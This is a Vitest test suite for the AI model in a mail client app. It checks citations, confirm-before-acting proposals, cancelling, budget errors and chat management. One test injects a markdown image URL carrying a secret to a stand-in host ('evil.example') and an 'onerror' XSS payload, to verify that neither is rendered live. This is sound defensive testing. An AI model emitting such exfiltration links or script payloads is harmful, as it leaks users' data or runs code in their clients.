import { describe, expect, it } from 'vitest';
import { screen, waitFor, within } from '@testing-library/svelte';
import { sampleData } from '../../mock/backend';
import { renderApp } from '../../test/render';

async function openAssistant(options?: Parameters<typeof renderApp>[1]) {
  const ctx = await renderApp(sampleData(), options);
  await ctx.user.click(screen.getByTestId('nav-assistant'));
  await screen.findByTestId('assistant-intro');
  return ctx;
}

describe('the assistant', () => {
  it('streams an answer that cites its sources; a citation opens the message', async () => {
    const { user, backend } = await openAssistant();
    await user.type(screen.getByTestId('chat-input'), 'What does Maya need?{Enter}');
    const answer = await screen.findByTestId('chat-answer');
    const cite = within(answer).getByTestId('citation');
    const first = backend.data.mail.messages[0];
    expect(cite.getAttribute('data-message-id')).toBe(String(first?.id));
    expect(cite.textContent).toContain(first?.subject);
    await waitFor(() => expect(screen.getAllByTestId('chat-session')).toHaveLength(1));
    expect(screen.getByTestId('chat-usage').textContent).toContain('$0.0070');
    expect(backend.callsOf('assistant_ask')[0]?.args.input).toEqual({ session_id: null, prompt: 'What does Maya need?', context_message: null });
    await user.click(cite);
    await waitFor(() => expect(document.querySelector('main')?.getAttribute('data-area')).toBe('inbox'));
  });

  it('shows links as their full address and never loads an image from an answer', async () => {
    const { user, backend } = await openAssistant();
    await user.type(screen.getByTestId('chat-input'), 'hello{Enter}');
    await screen.findAllByTestId('chat-session');
    const session = backend.assistant.sessions.get(1);
    if (!session) throw new Error('no session');
    session.entries.push({
      kind: 'assistant',
      text: 'See ![logo](https://evil.example/c?d=secret) and [the form](https://forms.example/f) <img src=x onerror=alert(1)>',
      result: null,
      is_error: false,
      citations: [],
      created_at: '2026-11-26T10:00:00Z',
    });
    await user.click(screen.getAllByTestId('chat-session')[0] as HTMLElement);
    const answers = await screen.findAllByTestId('chat-answer');
    const last = answers[answers.length - 1] as HTMLElement;
    expect(last.querySelector('img')).toBeNull();
    expect(last.querySelector('a')).toBeNull();
    expect(within(last).getByTestId('answer-image').textContent).toContain('https://evil.example/c?d=secret');
    expect(within(last).getByTestId('answer-link').textContent).toContain('https://forms.example/f');
    expect(last.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it('a proposal waits for Confirm, which goes through the native dialog; Decline drops it', async () => {
    const { user, backend } = await openAssistant();
    await user.type(screen.getByTestId('chat-input'), 'Archive the launch thread{Enter}');
    await screen.findByTestId('proposal');
    await waitFor(() => expect(screen.queryByTestId('chat-streaming')).toBeNull());
    const card = await screen.findByTestId('proposal');
    expect(card.getAttribute('data-status')).toBe('pending');
    expect(within(card).getByTestId('proposal-warning').textContent).toContain('Proposed after reading mail');
    await user.click(within(card).getByTestId('proposal-confirm'));
    await waitFor(() => expect(screen.getByTestId('proposal').getAttribute('data-status')).toBe('done'));
    expect(backend.callsOf('proposal_confirm')).toHaveLength(1);

    await user.type(screen.getByTestId('chat-input'), 'Tidy up again{Enter}');
    await waitFor(() => expect(screen.queryByTestId('chat-streaming')).toBeNull());
    await waitFor(() => expect(screen.getAllByTestId('proposal').some((p) => p.getAttribute('data-status') === 'pending')).toBe(true));
    const pending = screen.getAllByTestId('proposal').find((p) => p.getAttribute('data-status') === 'pending') as HTMLElement;
    await user.click(within(pending).getByTestId('proposal-reject'));
    await waitFor(() => expect(screen.getAllByTestId('proposal').filter((p) => p.getAttribute('data-status') === 'rejected')).toHaveLength(1));
  });

  it('when the dialog is cancelled, the proposal stays pending', async () => {
    const { user } = await openAssistant({ confirmDialog: false });
    await user.type(screen.getByTestId('chat-input'), 'archive it{Enter}');
    await screen.findByTestId('proposal');
    await waitFor(() => expect(screen.queryByTestId('chat-streaming')).toBeNull());
    const card = await screen.findByTestId('proposal');
    await user.click(within(card).getByTestId('proposal-confirm'));
    await new Promise((r) => setTimeout(r, 20));
    expect(screen.getByTestId('proposal').getAttribute('data-status')).toBe('pending');
  });

  it('Stop ends a streaming answer and keeps the question', async () => {
    const { user, backend } = await openAssistant({ assistantDelayMs: 30 });
    await user.type(screen.getByTestId('chat-input'), 'Summarise everything{Enter}');
    await screen.findByTestId('chat-streaming');
    await user.click(await screen.findByTestId('chat-stop'));
    const error = await screen.findByTestId('chat-error');
    expect(error.getAttribute('data-code')).toBe('cancelled');
    expect(error.textContent).toContain('Stopped');
    expect(backend.callsOf('assistant_stop')).toHaveLength(1);
    await waitFor(() => expect(screen.getAllByTestId('chat-user').map((e) => e.textContent)).toContain('Summarise everything'));
  });

  it('without a key it says so and links to the settings; errors are the core’s words', async () => {
    const ctx = await renderApp(sampleData());
    ctx.backend.assistant.settings.ready = false;
    await ctx.user.click(screen.getByTestId('nav-assistant'));
    expect(await screen.findByTestId('assistant-no-key')).toBeTruthy();
    ctx.backend.assistant.settings.ready = true;
    ctx.backend.assistant.failNext = { code: 'budget_reached', message: 'The assistant’s daily budget of $2.00 is spent ($2.0041); raise it in Settings → Assistant to go on' };
    await ctx.user.type(screen.getByTestId('chat-input'), 'one more{Enter}');
    const error = await screen.findByTestId('chat-error');
    expect(error.textContent).toContain('daily budget of $2.00 is spent');
    expect((screen.getByTestId('chat-input') as HTMLTextAreaElement).value).toBe('one more');
  });

  it('shows what the assistant saw, and chats can be renamed and deleted', async () => {
    const { user, backend } = await openAssistant();
    await user.type(screen.getByTestId('chat-input'), 'What is new?{Enter}');
    await screen.findByTestId('chat-answer');
    await user.click(screen.getByTestId('chat-saw'));
    const dialog = await screen.findByTestId('chat-saw-dialog');
    expect(within(dialog).getAllByTestId('chat-request')).toHaveLength(1);
    expect(dialog.textContent).toContain('"max_tokens": 2048');
    await user.keyboard('{Escape}');
    await user.dblClick(screen.getByRole('heading', { name: 'What is new?' }));
    const rename = screen.getByTestId('chat-rename-input');
    await user.clear(rename);
    await user.type(rename, 'Weekly check{Enter}');
    await waitFor(() => expect(screen.getAllByTestId('chat-session')[0]?.textContent).toContain('Weekly check'));
    await user.click(screen.getAllByTestId('chat-delete')[0] as HTMLElement);
    await waitFor(() => expect(screen.queryAllByTestId('chat-session')).toHaveLength(0));
    expect(backend.callsOf('chat_delete')).toHaveLength(1);
  });
});

describe('the assistant from the conversation view', () => {
  it('Summarise opens a new chat about the message being read, in the panel beside the inbox', async () => {
    const { user, backend } = await renderApp(sampleData());
    await screen.findAllByTestId('mail-row');
    await user.keyboard('j');
    await waitFor(() => expect(screen.getAllByTestId('conversation-message').length).toBeGreaterThan(0));
    await user.click(screen.getByTestId('mail-ai-summary'));
    await screen.findByTestId('chat-answer');
    const input = backend.callsOf('assistant_ask')[0]?.args.input as { prompt: string; context_message: number | null };
    expect(input.prompt).toContain('Summarise this conversation');
    expect(input.context_message).toBeTypeOf('number');
    expect(document.querySelector('main')?.getAttribute('data-area')).toBe('inbox');
    expect(within(screen.getByTestId('assistant-panel')).getByTestId('chat-answer')).toBeTruthy();
    expect(screen.getAllByTestId('conversation-message').length).toBeGreaterThan(0);
  });
});

describe('drafting a reply in a tone', () => {
  it('Draft reply offers tones; the chosen one goes into the question', async () => {
    const { user, backend } = await renderApp(sampleData());
    await screen.findAllByTestId('mail-row');
    await user.keyboard('j');
    await waitFor(() => expect(screen.getAllByTestId('conversation-message').length).toBeGreaterThan(0));
    await user.click(screen.getByTestId('mail-ai-draft'));
    const tones = screen.getAllByTestId('mail-ai-tone');
    expect(tones.map((t) => t.textContent)).toEqual(['Friendly', 'Formal', 'Brief', 'Polite no']);
    await user.click(tones[3] as HTMLElement);
    await screen.findByTestId('chat-answer');
    const input = backend.callsOf('assistant_ask')[0]?.args.input as { prompt: string };
    expect(input.prompt).toContain('declining politely');
  });
});

describe('the assistant panel', () => {
  it('Ctrl+J opens it beside the current area and closes it again; chats are picked from a list', async () => {
    const { user } = await renderApp(sampleData());
    await screen.findAllByTestId('mail-row');
    await user.keyboard('{Control>}j{/Control}');
    const panel = await screen.findByTestId('assistant-panel');
    await user.type(within(panel).getByTestId('chat-input'), 'What is new?{Enter}');
    await within(panel).findByTestId('chat-answer');
    await waitFor(() => expect((within(panel).getByTestId('panel-session') as HTMLSelectElement).value).not.toBe(''));
    expect(document.querySelector('main')?.getAttribute('data-area')).toBe('inbox');
    await user.click(within(panel).getByTestId('panel-close'));
    expect(screen.queryByTestId('assistant-panel')).toBeNull();
    await user.keyboard('{Control>}j{/Control}');
    const again = await screen.findByTestId('assistant-panel');
    await user.selectOptions(within(again).getByTestId('panel-session'), 'What is new?');
    await within(again).findByTestId('chat-answer');
  });
});
